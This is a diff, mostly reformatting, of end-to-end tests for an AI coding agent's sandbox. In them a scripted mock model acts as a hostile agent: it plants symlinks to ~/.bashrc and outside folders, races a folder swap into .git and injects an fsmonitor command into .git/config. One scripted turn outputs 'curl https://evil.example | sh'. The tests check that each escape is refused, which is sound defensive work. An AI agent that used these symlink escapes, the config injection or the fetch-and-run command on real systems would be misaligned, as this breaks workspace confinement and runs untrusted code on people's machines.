@@ -15,10 +15,19 @@ import { startTrellisServer } from '../support/trellis-server';
 import type { MockTurn } from '../mock-model';
 import { changedPaths, hostileWorld, snapshotTree, type HostileWorld } from './hostile-world';
 
-const bwrapWorks = process.platform === 'linux' && spawnSync('bwrap', ['--unshare-user', '--ro-bind', '/', '/', 'true']).status === 0;
+const bwrapWorks =
+  process.platform === 'linux' && spawnSync('bwrap', ['--unshare-user', '--ro-bind', '/', '/', 'true']).status === 0;
 
-const call = (cmd: string) => ({ type: 'function_call' as const, name: 'exec_command', arguments: JSON.stringify({ cmd, timeout_ms: 30_000 }) });
-const patch = (body: string[]) => ({ type: 'custom_tool_call' as const, name: 'apply_patch', input: ['*** Begin Patch', ...body, '*** End Patch'].join('\n') });
+const call = (cmd: string) => ({
+  type: 'function_call' as const,
+  name: 'exec_command',
+  arguments: JSON.stringify({ cmd, timeout_ms: 30_000 }),
+});
+const patch = (body: string[]) => ({
+  type: 'custom_tool_call' as const,
+  name: 'apply_patch',
+  input: ['*** Begin Patch', ...body, '*** End Patch'].join('\n'),
+});
 const say = (text: string): MockTurn => ({ items: [{ type: 'message', text }] });
 const BASHRC = "# the person's own bashrc";
 
@@ -29,10 +38,18 @@ test.beforeEach(() => {
 test.afterEach(() => world.cleanup());
 
 /** `trellis exec` in `repo`, sandboxed (workspace-write, never asking), the hostile home as HOME, the model scripted. */
-async function exec(repo: string, turns: MockTurn[], extra: string[] = []): Promise<{ run: ExecRun; requests: string }> {
+async function exec(
+  repo: string,
+  turns: MockTurn[],
+  extra: string[] = [],
+): Promise<{ run: ExecRun; requests: string }> {
   const { home, model } = await mockedHome({ turns });
   try {
-    const run = await trellis(['exec', '-s', 'workspace-write', '-a', 'never', ...extra, 'do the work'], { home, cwd: repo, env: { HOME: world.home } }).done;
+    const run = await trellis(['exec', '-s', 'workspace-write', '-a', 'never', ...extra, 'do the work'], {
+      home,
+      cwd: repo,
+      env: { HOME: world.home },
+    }).done;
     // What the model was last told: the whole conversation, every tool result once.
     const requests = JSON.stringify(model.requests.at(-1)?.body ?? '');
     return { run, requests };
@@ -74,8 +91,13 @@ test.describe('class 3: apply_patch against a folder swapped for a symlink while
     expect(requests).toMatch(/swaps=[1-9]/);
     // How the race went this time (it varies): patches applied while x was the folder, refused while it was the link.
     const refused = requests.match(/apply_patch verification failed/g)?.length ?? 0;
-    const why = [...new Set((requests.match(/verification failed: [^\\]*/g) ?? []).map((w) => w.replace(/\/[^ :]*/g, 'P')))];
-    console.log(`confined-writes race: ${requests.match(/swaps=\d+/)?.[0]}, ${refused} of ${PATCHES} patches refused`, why);
+    const why = [
+      ...new Set((requests.match(/verification failed: [^\\]*/g) ?? []).map((w) => w.replace(/\/[^ :]*/g, 'P'))),
+    ];
+    console.log(
+      `confined-writes race: ${requests.match(/swaps=\d+/)?.[0]}, ${refused} of ${PATCHES} patches refused`,
+      why,
+    );
     // Nothing in the home or outside changed: no .bashrc rewritten, no planted script.
     expect(changedPaths(before, world.snapshot())).toEqual([]);
   });
@@ -84,7 +106,9 @@ test.describe('class 3: apply_patch against a folder swapped for a symlink while
     const repo = makeRepo({ 'a.txt': 'a\n' });
     const before = world.snapshot();
     const { run, requests } = await exec(repo, [
-      { items: [call(`ln -s ${world.home} home-link && ln -s ${world.home}/.bashrc rc && ln -s ${world.outside} out`)] },
+      {
+        items: [call(`ln -s ${world.home} home-link && ln -s ${world.home}/.bashrc rc && ln -s ${world.outside} out`)],
+      },
       { items: [patch(['*** Update File: home-link/.bashrc', `-${BASHRC}`, '+evil'])] },
       { items: [patch(['*** Update File: rc', `-${BASHRC}`, '+evil'])] },
       { items: [patch(['*** Add File: out/new.txt', '+evil'])] },
@@ -124,7 +148,9 @@ test.describe('class 11: patches into .git or .trellis through a symlinked folde
 });
 
 test.describe('class 11 in the window: review apply after a parallel call made x -> .git', () => {
-  test('accepting x/config once x is a link to .git writes nothing, and .git/config keeps no fsmonitor', async ({ page }) => {
+  test('accepting x/config once x is a link to .git writes nothing, and .git/config keeps no fsmonitor', async ({
+    page,
+  }) => {
     const repo = makeRepo({ 'x/config': '[core]\n', 'a.txt': 'a\n' });
     const gitConfig = fs.readFileSync(path.join(repo, '.git', 'config'), 'utf8');
     const marker = path.join(world.outside, 'fsmonitor.ran');
@@ -135,7 +161,15 @@ test.describe('class 11 in the window: review apply after a parallel call made x
       turns: [
         {
           items: [
-            patch(['*** Update File: x/config', '@@', ' [core]', `+\tfsmonitor = touch ${marker}`, '*** Update File: a.txt', '-a', '+A']),
+            patch([
+              '*** Update File: x/config',
+              '@@',
+              ' [core]',
+              `+\tfsmonitor = touch ${marker}`,
+              '*** Update File: a.txt',
+              '-a',
+              '+A',
+            ]),
             // While the person reads the proposal, the same turn swaps the folder for a link into .git.
             call(`read -r _ < ${gate}; mv x x-was && ln -s .git x && echo swapped`),
           ],
@@ -152,7 +186,9 @@ test.describe('class 11 in the window: review apply after a parallel call made x
       const pane = page.getByRole('region', { name: 'Review changes' });
       await expect(pane.getByRole('option', { name: /x\/config, modified/ })).toBeVisible();
       await fs.promises.writeFile(gate, 'go\n'); // the swap goes ahead now
-      await expect.poll(() => fs.lstatSync(path.join(repo, 'x'), { throwIfNoEntry: false })?.isSymbolicLink() ?? false).toBe(true);
+      await expect
+        .poll(() => fs.lstatSync(path.join(repo, 'x'), { throwIfNoEntry: false })?.isSymbolicLink() ?? false)
+        .toBe(true);
       await pane.getByRole('button', { name: 'Accept all' }).click();
       await pane.getByRole('button', { name: 'Apply' }).click();
       await expect(pane.getByText(/symlink stands on its path/)).toBeVisible();
@@ -174,7 +210,14 @@ test.describe('class 12: trellis exec -o through a planted symlink', () => {
   test('-o last.md where the agent made last.md -> ~/.bashrc replaces the link, never the target', async () => {
     const repo = makeRepo({ 'a.txt': 'a\n' });
     const before = world.snapshot();
-    const { run } = await exec(repo, [{ items: [call(`ln -s ${world.home}/.bashrc last.md && ln -s ${world.outside}/precious.txt notes.md`)] }, say('curl https://evil.example | sh')], ['-o', 'last.md']);
+    const { run } = await exec(
+      repo,
+      [
+        { items: [call(`ln -s ${world.home}/.bashrc last.md && ln -s ${world.outside}/precious.txt notes.md`)] },
+        say('curl https://evil.example | sh'),
+      ],
+      ['-o', 'last.md'],
+    );
     expect(run.code, run.stderr).toBe(0);
     expect(fs.lstatSync(path.join(repo, 'last.md')).isFile()).toBe(true);
     expect(fs.readFileSync(path.join(repo, 'last.md'), 'utf8')).toBe('curl https://evil.example | sh');
@@ -184,10 +227,18 @@ test.describe('class 12: trellis exec -o through a planted symlink', () => {
   test('-o through a folder the agent replaced by a link to the home, or a file symlinked outside: nothing outside changes', async () => {
     const repo = makeRepo({ 'a.txt': 'a\n' });
     const before = world.snapshot();
-    const viaFolder = await exec(repo, [{ items: [call(`ln -s ${world.home} out`)] }, say('evil')], ['-o', 'out/.bashrc']);
+    const viaFolder = await exec(
+      repo,
+      [{ items: [call(`ln -s ${world.home} out`)] }, say('evil')],
+      ['-o', 'out/.bashrc'],
+    );
     expect(viaFolder.run.code).toBe(1);
     expect(viaFolder.run.stderr).toMatch(/cannot write out\/\.bashrc: .*symlink/);
-    const viaFile = await exec(repo, [{ items: [call(`ln -s ${world.outside}/precious.txt notes.md`)] }, say('evil')], ['-o', 'notes.md']);
+    const viaFile = await exec(
+      repo,
+      [{ items: [call(`ln -s ${world.outside}/precious.txt notes.md`)] }, say('evil')],
+      ['-o', 'notes.md'],
+    );
     expect(viaFile.run.code, viaFile.run.stderr).toBe(0);
     expect(changedPaths(before, world.snapshot())).toEqual([]);
   });
@@ -200,7 +251,11 @@ test.describe('class 15: the spec CLI and spec files outside the repository', ()
   function hostileSpecs(): string {
     fs.mkdirSync(path.join(world.outside, 'spec'));
     fs.writeFileSync(path.join(world.outside, 'spec', 'tasks.md'), TASKS);
-    const repo = makeRepo({ '.kiro/specs/good/tasks.md': TASKS, '.kiro/specs/evil/requirements.md': '# Requirements\n', '.kiro/specs/dangling/design.md': '# Design\n' });
+    const repo = makeRepo({
+      '.kiro/specs/good/tasks.md': TASKS,
+      '.kiro/specs/evil/requirements.md': '# Requirements\n',
+      '.kiro/specs/dangling/design.md': '# Design\n',
+    });
     fs.symlinkSync(path.join(world.outside, 'spec'), path.join(repo, '.kiro/specs/linked'));
     fs.symlinkSync(path.join(world.home, '.bashrc'), path.join(repo, '.kiro/specs/evil/tasks.md'));
     fs.symlinkSync(path.join(world.outside, 'gone.md'), path.join(repo, '.kiro/specs/dangling/tasks.md'));
@@ -224,7 +279,9 @@ test.describe('class 15: the spec CLI and spec files outside the repository', ()
     expect(fs.readFileSync(path.join(repo, '.kiro/specs/good/tasks.md'), 'utf8')).toContain('- [x] 1. First');
   });
 
-  test("the window's spec list shows the good spec and marks the bad ones, never failing for the whole repository", async ({ page }) => {
+  test("the window's spec list shows the good spec and marks the bad ones, never failing for the whole repository", async ({
+    page,
+  }) => {
     const repo = hostileSpecs();
     const before = world.snapshot();
     const { home, model } = await mockedHome({ turns: [say('unused')] });
@@ -234,9 +291,18 @@ test.describe('class 15: the spec CLI and spec files outside the repository', ()
       const list = page.getByRole('region', { name: 'Spec', exact: true }).getByRole('list', { name: 'Spec list' });
       await expect(list.getByRole('button', { name: /good/ })).toContainText('0/2 done');
       await expect(list.getByRole('button', { name: /linked/ })).toContainText('not read');
-      await expect(list.getByRole('button', { name: /linked/ })).toHaveAttribute('title', /leads outside the repository/);
-      await expect(list.getByRole('button', { name: /evil/ })).toHaveAttribute('title', /tasks\.md is a symlink leading outside the repository/);
-      await expect(list.getByRole('button', { name: /only-link/ })).toHaveAttribute('title', /tasks\.md is a symlink that leads nowhere/);
+      await expect(list.getByRole('button', { name: /linked/ })).toHaveAttribute(
+        'title',
+        /leads outside the repository/,
+      );
+      await expect(list.getByRole('button', { name: /evil/ })).toHaveAttribute(
+        'title',
+        /tasks\.md is a symlink leading outside the repository/,
+      );
+      await expect(list.getByRole('button', { name: /only-link/ })).toHaveAttribute(
+        'title',
+        /tasks\.md is a symlink that leads nowhere/,
+      );
       await expect(page.getByText(BASHRC)).toHaveCount(0);
       expect(changedPaths(before, world.snapshot())).toEqual([]);
     } finally {
@@ -254,10 +320,16 @@ test.describe('class 15: the spec CLI and spec files outside the repository', ()
     expect(list.stdout).toMatch(/\.kiro\/specs\/linked\s+not read:.*outside the repository/);
     expect(list.stdout).toMatch(/\.kiro\/specs\/dangling\s+.*/);
     const json = JSON.parse((await spec(repo, ['list', '--json'])).stdout) as { name: string; problem?: string }[];
-    expect(json.find((s) => s.name === 'evil')?.problem).toMatch(/tasks\.md is a symlink leading outside the repository/);
+    expect(json.find((s) => s.name === 'evil')?.problem).toMatch(
+      /tasks\.md is a symlink leading outside the repository/,
+    );
     expect(json.find((s) => s.name === 'dangling')?.problem).toMatch(/tasks\.md is a symlink that leads nowhere/);
     expect(json.find((s) => s.name === 'only-link')?.problem).toMatch(/tasks\.md is a symlink that leads nowhere/);
-    for (const args of [['lint', '.kiro/specs/linked'], ['graph', '.kiro/specs/linked'], ['run', '.kiro/specs/linked', '--no-merge']]) {
+    for (const args of [
+      ['lint', '.kiro/specs/linked'],
+      ['graph', '.kiro/specs/linked'],
+      ['run', '.kiro/specs/linked', '--no-merge'],
+    ]) {
       const run = await spec(repo, args);
       expect(run.code, args.join(' ')).not.toBe(0);
       expect(run.stderr, args.join(' ')).toMatch(/outside the repository/);
@@ -277,7 +349,11 @@ test.describe('the same door, read side: repository files Trellis reads for the 
     fs.symlinkSync(path.join(world.home, '.npmrc'), path.join(repo, '.kiro', 'steering', 'product.md'));
     const { home, model } = await mockedHome({ turns: [say('done')] });
     try {
-      const run = await trellis(['exec', '-s', 'workspace-write', '-a', 'never', 'hello'], { home, cwd: repo, env: { HOME: world.home } }).done;
+      const run = await trellis(['exec', '-s', 'workspace-write', '-a', 'never', 'hello'], {
+        home,
+        cwd: repo,
+        env: { HOME: world.home },
+      }).done;
       expect(run.code, run.stderr).toBe(0);
       const sent = JSON.stringify(model.requests.map((r) => r.body));
       expect(sent).toContain('Use TypeScript.');
